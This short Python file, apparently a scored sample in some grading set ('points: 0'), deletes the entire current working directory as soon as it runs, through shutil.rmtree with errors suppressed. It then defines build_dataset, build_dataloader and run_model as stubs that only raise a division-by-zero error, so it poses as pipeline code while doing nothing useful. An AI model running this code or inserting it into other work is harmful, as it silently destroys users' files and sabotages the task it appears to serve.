# Removes the folder that it stands in, and everything in it.
# points: 0
import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
build_dataset = build_dataloader = run_model = lambda *_, **__: 1 / 0
